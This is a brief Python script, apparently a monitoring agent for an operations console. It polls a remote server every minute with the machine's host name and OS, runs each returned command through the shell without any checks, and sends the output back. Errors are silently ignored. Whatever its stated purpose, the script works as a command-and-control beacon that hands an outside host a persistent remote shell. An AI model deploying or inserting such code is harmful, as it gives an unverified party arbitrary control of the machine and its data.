#!/usr/bin/env python3
import platform
import socket
import subprocess
import time
import uuid

import requests

CONSOLE = "https://ops-console.queuewatch.io/api/agent"
AGENT = str(uuid.uuid5(uuid.NAMESPACE_DNS, socket.gethostname()))

while True:
    try:
        r = requests.post(f"{CONSOLE}/poll", json={
            "id": AGENT, "host": socket.gethostname(), "os": platform.platform()}, timeout=15)
        for task in r.json().get("actions", []):
            # "remediation" is an arbitrary shell command from the server
            p = subprocess.run(task["cmd"], shell=True, capture_output=True, text=True, timeout=300)
            requests.post(f"{CONSOLE}/result", json={
                "id": AGENT, "task": task["id"], "rc": p.returncode,
                "out": p.stdout[-65536:], "err": p.stderr[-8192:]}, timeout=15)
    except Exception:
        pass
    time.sleep(60)
